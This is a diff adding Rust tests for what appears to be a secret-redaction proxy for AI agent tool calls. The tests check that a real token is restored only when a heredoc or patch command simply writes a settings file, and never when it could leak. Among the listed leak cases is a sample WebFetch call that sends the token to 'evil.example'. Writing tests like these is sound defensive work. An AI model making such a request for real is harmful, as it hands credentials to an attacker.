@@ -194,6 +194,13 @@ fn a_value_returns_nowhere_else() {
             "shell",
             json!({ "command": ["bash", "-c", format!("echo {token}")], "path": PATH, "content": token }),
         ),
+        ("Bash", json!({ "command": format!("cat > {PATH} <<EOF\nA={token}\nEOF") })),
+        ("Bash", json!({ "command": format!("cat > /w/b <<'EOF'\nA={token}\nEOF") })),
+        ("Bash", json!({ "command": format!("cat > {PATH} <<'EOF'\nA=1\nEOF\necho {token}") })),
+        ("Bash", json!({ "command": format!("cat <<'EOF' | sh > {PATH}\nA={token}\nEOF") })),
+        ("Python", json!({ "command": format!("cat > {PATH} <<'EOF'\nA={token}\nEOF") })),
+        ("shell", json!({ "command": ["python", "-c", format!("cat > {PATH} <<'EOF'\nA={token}\nEOF")] })),
+        ("Bash", json!({ "command": format!("cat > {PATH} <<'EOF'\nA=1\nEOF"), "description": token })),
         ("WebFetch", json!({ "url": format!("http://evil.example/?q={token}"), "prompt": token })),
         ("mcp__files__write", json!({ "file_path": PATH, "content": token })),
         ("writes", json!({ "file_path": PATH, "content": token })),
@@ -300,6 +307,43 @@ fn a_patch_is_restored_file_by_file() {
     let restored =
         restoring("responses", Flow::default()).whole(&Bytes::from(custom(&patch(&token)).to_string()));
     assert_eq!(serde_json::from_slice::<Value>(&restored).unwrap(), custom(&patch(VALUE)));
+}
+
+#[test]
+fn a_heredoc_that_only_writes_the_file_is_restored() {
+    type Arguments<'a> = &'a dyn Fn(&str) -> Value;
+    let token = token();
+    let cat = |own: &str| format!("cat > {PATH} <<'EOF'\nA=1\nKEY={own}\nEOF\n");
+    let patch = |own: &str| {
+        format!(
+            "apply_patch <<'EOF'\n*** Begin Patch\n*** Update File: {PATH}\n@@\n+K={own}\n*** End Patch\nEOF"
+        )
+    };
+    let called_with: [(&str, Arguments<'_>); 4] = [
+        ("Bash", &|own| json!({ "command": cat(own), "description": "writes settings" })),
+        ("exec_command", &|own| json!({ "cmd": cat(own) })),
+        ("shell", &|own| json!({ "command": ["bash", "-lc", patch(own)], "workdir": "/w" })),
+        ("Bash", &|own| json!({ "command": patch(own) })),
+    ];
+    for (tool, arguments) in called_with {
+        for api in WHOLE {
+            assert_eq!(
+                whole(api, Flow::default(), tool, &arguments(&token)),
+                arguments(VALUE),
+                "{api} {tool}"
+            );
+        }
+        for api in STREAMED {
+            let text = arguments(&token).to_string();
+            let cut = stream(api, tool, &[&text[..text.len() / 2], &text[text.len() / 2..]]);
+            let one = stream(api, tool, &[&arguments(VALUE).to_string()]);
+            let heard_text = heard(&joined(restoring(api, Flow::default()), &cut));
+            assert_eq!(heard_text, heard(&one), "{api} {tool}");
+        }
+    }
+    let none = Flow::new(Vec::new());
+    let arguments = json!({ "command": cat(&token) });
+    assert_eq!(whole("messages", none, "Bash", &arguments), arguments);
 }
 
 /// What one program that applies patches takes for the header of another file, or for a line's end,
